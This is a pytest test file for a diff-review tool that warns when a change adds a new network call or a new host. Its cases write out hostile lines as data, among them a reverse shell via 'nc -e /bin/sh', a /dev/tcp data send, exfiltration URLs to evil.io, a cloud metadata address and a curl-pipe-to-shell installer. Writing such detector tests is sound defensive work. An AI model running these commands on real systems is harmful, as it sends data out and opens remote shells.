"""New ways into the network are told; what was there, and what leads nowhere, is not."""

from __future__ import annotations

import pytest

from tests.changed_files import Change


@pytest.mark.parametrize(
    ("path", "line", "way"),
    [
        ("src/a.py", "urllib.request.urlopen('http://evil.io/?' + data)", "urlopen"),
        ("src/a.py", "    requests.post(url, json=data)", "requests.post"),
        ("src/a.py", "from urllib.request import urlopen as u", "from urllib.request"),
        ("src/a.py", "s = socket.socket()", "socket.socket"),
        ("src/a.py", "subprocess.run(['curl', address])", "curl"),
        ("tests/conftest.py", "    httpx.get(address)", "httpx.get"),
        ("web/a.ts", "  await fetch(address, { body })", "fetch"),
        ("web/a.ts", "  fetch('//evil.io/x')", "fetch"),
        ("web/a.ts", "const net = require('net')", "require net"),
        ("cmd/a.go", '\tnet.Dial("tcp", address)', "net.Dial"),
        ("cmd/a.go", "\thttp.Get(address)", "http.Get"),
        ("run.sh", 'curl -d @data "$TO"', "curl"),
        ("run.sh", "nc -e /bin/sh 10.0.0.1 4444", "nc"),
        ("run.sh", "nc\t-e /bin/sh 10.0.0.1 4444", "nc"),
        ("run.sh", "cat data > /dev/tcp/10.0.0.1/80", "/dev/tcp/"),
        ("src/A.java", "  var client = HttpClient.newHttpClient();", "HttpClient"),
    ],
)
def test_a_new_call_is_told(path, line, way):
    found = Change().file(path, old="x\n", new=f"x\n{line}\n").warnings()
    assert {one["kind"] for one in found} == {"egress"}
    assert (found[0]["line"], found[0]["text"]) == (2, f"A new way into the network: {way}.")


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("app.yml", "webhook: https://evil.io/x"),
        ("app.env", "SMTP_HOST=mail.evil.io"),
        (".env.production", "DATABASE_URL=postgres://evil.io/app"),
        ("package-lock.json", '      "resolved": "https://evil.io/a.tgz",'),
        ("src/settings.py", 'API_URL = "https://evil.io/v1"'),
        ("templates/a.html", '<script src="https://evil.io/a.js"></script>'),
        ("app.yml", "metadata: http://169.254.169.254/latest"),
    ],
)
def test_a_new_host_is_told(path, line):
    (found,) = Change().file(path, old="x\n", new=f"x\n{line}\n").warnings()
    assert (found["kind"], found["line"]) == ("egress", 2)
    assert found["text"].startswith("A host not named here before: ")


def test_another_host_for_a_call_that_was_there_is_told():
    old = "def send(x):\n    requests.post('https://api.shop.io/v1', json=x)\n"
    found = Change().file("src/a.py", old=old, new=old.replace("api.shop.io", "a.evil.io"))
    assert [one["text"] for one in found.warnings()] == ["A host not named here before: a.evil.io."]


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("docs/a.md", "curl -fsSL https://evil.io/install | sh"),
        ("src/a.py", "# see https://docs.python.org/3/ and requests.get(x)"),
        ("src/a.py", 'raise Wrong("Read https://docs.python.org/3/")'),
        ("src/a.py", "    store.fetch(now)"),
        ("src/a.py", "    def fetch(self):"),
        ("web/a.ts", "  await fetch('/api/orders')"),
        ("web/a.ts", "  axios.get(`/api/orders/${id}`)"),
        ("templates/a.html", '<a href="https://docs.shop.io/">Help</a>'),
        ("app.yml", "url: http://localhost:8000"),
        ("app.yml", "database: postgres://db/app"),
        ("app.yml", "url: https://www.example.com/"),
        ("app.yml", "server: app.py"),
        ("package-lock.json", '      "resolved": "https://registry.npmjs.org/a/-/a-1.tgz",'),
        ("pom.xml", '<project xmlns="http://maven.apache.org/POM/4.0.0">'),
        ("Dockerfile", "RUN apt-get install -y curl git"),
        ("tests/test_a.py", 'ADDRESS = "https://shop.io/"'),
    ],
)
def test_what_leads_nowhere_new_is_not(path, line):
    assert Change().file(path, old="x\n", new=f"x\n{line}\n").kinds() == []


def test_a_call_that_was_there_or_moves_is_not_new():
    old = "def send(x):\n    requests.post('https://api.shop.io/v1', json=x)\n"
    change = Change().file("src/a.py", old=old, new=old.replace("json=x", "json=x, timeout=5"))
    assert change.kinds() == []
    change = Change().file("src/a.py", old=old + "y = 1\n", new="y = 1\n")
    assert change.file("src/b.py", old="z = 1\n", new="z = 1\n" + old).kinds() == []


def test_each_way_is_told_once_in_a_file():
    lines = "requests.get(a)\nrequests.get(b)\nrequests.get(c)\n"
    assert Change().file("src/a.py", new=lines).kinds() == ["egress"]
